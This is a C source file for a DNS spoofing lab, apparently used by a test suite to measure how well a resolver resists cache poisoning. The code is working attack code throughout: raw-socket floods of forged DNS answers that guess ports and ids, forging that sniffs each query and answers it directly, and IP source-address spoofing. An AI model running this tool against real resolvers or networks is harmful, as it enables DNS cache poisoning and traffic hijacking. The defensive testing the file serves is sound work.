/* A blind spoofer and its target clients. test/support/labs/spoof-lab.ts compiles and runs it. IPv4, as root.
 *   spoof flood FROM TO NAME RATE SECONDS     forged answers from FROM:53 to random ports (1024..65535) of TO under random ids
 *   spoof know FROM TO NAME SECONDS           the same forged answer with the port and id of each query to FROM
 *   spoof ask SERVER NAME SECONDS ADDRESS...  one query for NAME outstanding from each own address at all times
 *   spoof claim FROM PORT TO PORT NAME        one query for NAME with the first address and port as its source
 * The forged answer has the right question and the address 198.51.100.66. `flood` and `know` print how many they sent;
 * `ask` prints one line of JSON: how many queries it sent, and how many answers were true, forged, or errors. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define CLIENTS 64
#define UDP_HEADER 8
#define IP_HEADER 20
#define FIRST_PORT 1024
#define EVIL "\xc6\x33\x64\x42"

static int64_t now_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000LL + t.tv_nsec / 1000;
}

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

/* xorshift64*: good enough for guessing. */
static uint32_t draw(void)
{
	static uint64_t state;

	if (state == 0 && getrandom(&state, sizeof(state), 0) != sizeof(state))
		fail("getrandom");
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return (state * 0x2545f4914f6cdd1dULL) >> 32;
}

static struct sockaddr_in address_of(const char *text, int port)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(port) };

	if (inet_pton(AF_INET, text, &in.sin_addr) != 1)
		exit(2);
	return in;
}

/* Header and question for NAME A IN; returns the length. */
static int write_question(uint8_t *out, const char *name, int flags, int answers)
{
	int at = 12;

	memset(out, 0, 12);
	out[2] = flags >> 8;
	out[3] = flags;
	out[5] = 1;
	out[7] = answers;
	while (*name) {
		int size = strcspn(name, ".");
		out[at++] = size;
		memcpy(out + at, name, size);
		at += size;
		name += size + (name[size] == '.');
	}
	memcpy(out + at, "\0\0\1\0\1", 5);
	return at + 5;
}

/* UDP header (no checksum) and forged answer; ports and id are filled in for each packet. */
static int write_forged(uint8_t *out, const char *name)
{
	static const uint8_t record[] = { 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4 };
	int size = UDP_HEADER + write_question(out + UDP_HEADER, name, 0x8180, 1);

	memcpy(out + size, record, sizeof(record));
	memcpy(out + size + sizeof(record), EVIL, 4);
	size += sizeof(record) + 4;
	memset(out, 0, UDP_HEADER);
	out[1] = 53;
	out[5] = size;
	return size;
}

static void aim(uint8_t *packet, unsigned port, unsigned id)
{
	packet[2] = port >> 8;
	packet[3] = port;
	packet[UDP_HEADER] = id >> 8;
	packet[UDP_HEADER + 1] = id;
}

/* A raw UDP socket at FROM; connected to TO if given. It also receives what others send to FROM. */
static int open_raw(const char *from, const char *to)
{
	struct sockaddr_in own = address_of(from, 0);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);

	if (fd < 0 || bind(fd, (struct sockaddr *)&own, sizeof(own)) < 0)
		fail("raw socket");
	if (to) {
		struct sockaddr_in peer = address_of(to, 0);
		if (connect(fd, (struct sockaddr *)&peer, sizeof(peer)) < 0)
			fail("connect");
	}
	return fd;
}

static int run_claim(char **a)
{
	uint8_t packet[512] = { 0x45 };
	struct sockaddr_in from = address_of(a[2], 0), to = address_of(a[4], 0);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), own = atoi(a[3]), port = atoi(a[5]);
	int size = UDP_HEADER + write_question(packet + IP_HEADER + UDP_HEADER, a[6], 0x0100, 0);
	uint8_t udp[UDP_HEADER] = { own >> 8, own, port >> 8, port, size >> 8, size };

	/* The kernel fills in length and checksum. */
	packet[8] = 64;
	packet[9] = IPPROTO_UDP;
	memcpy(packet + 12, &from.sin_addr, 4);
	memcpy(packet + 16, &to.sin_addr, 4);
	memcpy(packet + IP_HEADER, udp, sizeof(udp));
	if (fd < 0 || sendto(fd, packet, IP_HEADER + size, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		fail("claim");
	return 0;
}

static int run_flood(char **a)
{
	static uint8_t packets[BATCH][512];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	int64_t rate = atoi(a[5]), begin = now_us(), end = begin + (int64_t)(atof(a[6]) * 1e6), sent = 0;
	int fd = open_raw(a[2], a[3]);

	/* Packets that arrive here are for the true server. */
	int small = 1;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	for (int i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){ packets[i], write_forged(packets[i], a[4]) };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	for (int64_t now = begin; now < end; now = now_us()) {
		if (sent * 1000000 / rate > now - begin) {
			usleep(500);
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			uint32_t id = draw(), port = draw();
			aim(packets[i], FIRST_PORT + port % (65536 - FIRST_PORT), id & 0xffff);
		}
		int done = sendmmsg(fd, messages, BATCH, 0);
		if (done > 0)
			sent += done;
	}
	printf("%lld\n", (long long)sent);
	return 0;
}

static int run_know(char **a)
{
	static uint8_t in[2048], packet[512];
	int64_t end = now_us() + (int64_t)(atof(a[5]) * 1e6), sent = 0;
	int fd = open_raw(a[2], NULL);
	struct pollfd p = { .fd = fd, .events = POLLIN };
	struct sockaddr_in to = address_of(a[3], 0);
	int size = write_forged(packet, a[4]);

	puts("ready");
	fflush(stdout);
	while (now_us() < end) {
		poll(&p, 1, 10);
		int got = recv(fd, in, sizeof(in), MSG_DONTWAIT);
		if (got < 20 + UDP_HEADER + 12)
			continue;
		uint8_t *udp = in + (in[0] & 15) * 4;
		if (udp[2] != 0 || udp[3] != 53)
			continue;
		aim(packet, udp[0] << 8 | udp[1], udp[UDP_HEADER] << 8 | udp[UDP_HEADER + 1]);
		sent += sendto(fd, packet, size, 0, (struct sockaddr *)&to, sizeof(to)) > 0;
	}
	printf("%lld\n", (long long)sent);
	return 0;
}

static int run_ask(int count, char **a)
{
	struct pollfd p[CLIENTS];
	uint8_t query[512], in[4096];
	struct sockaddr_in server = address_of(a[2], 53);
	int size = write_question(query, a[3], 0x0100, 0), clients = count - 5;
	int64_t end = now_us() + (int64_t)(atof(a[4]) * 1e6);
	long asked = 0, truly = 0, forged = 0, errors = 0;

	for (int i = 0; i < clients && i < CLIENTS; i++) {
		struct sockaddr_in own = address_of(a[5 + i], 0);
		p[i] = (struct pollfd){ .fd = socket(AF_INET, SOCK_DGRAM, 0), .events = POLLIN };
		if (bind(p[i].fd, (struct sockaddr *)&own, sizeof(own)) < 0 ||
		    connect(p[i].fd, (struct sockaddr *)&server, sizeof(server)) < 0)
			fail(a[5 + i]);
		asked += send(p[i].fd, query, size, 0) > 0;
	}
	puts("ready");
	fflush(stdout);
	while (now_us() < end) {
		poll(p, clients, 50);
		for (int i = 0; i < clients; i++) {
			int got = p[i].revents ? recv(p[i].fd, in, sizeof(in), MSG_DONTWAIT) : -1;
			if (got < 12)
				continue;
			if ((in[3] & 15) != 0 || in[7] != 1)
				errors++;
			else if (memcmp(in + got - 4, EVIL, 4) == 0)
				forged++;
			else
				truly++;
			query[1]++;
			asked += send(p[i].fd, query, size, 0) > 0;
		}
	}
	printf("{\"asked\":%ld,\"true\":%ld,\"forged\":%ld,\"errors\":%ld}\n", asked, truly, forged, errors);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 7 && strcmp(argv[1], "flood") == 0)
		return run_flood(argv);
	if (argc == 7 && strcmp(argv[1], "claim") == 0)
		return run_claim(argv);
	if (argc == 6 && strcmp(argv[1], "know") == 0)
		return run_know(argv);
	if (argc >= 6 && strcmp(argv[1], "ask") == 0)
		return run_ask(argc, argv);
	return 2;
}
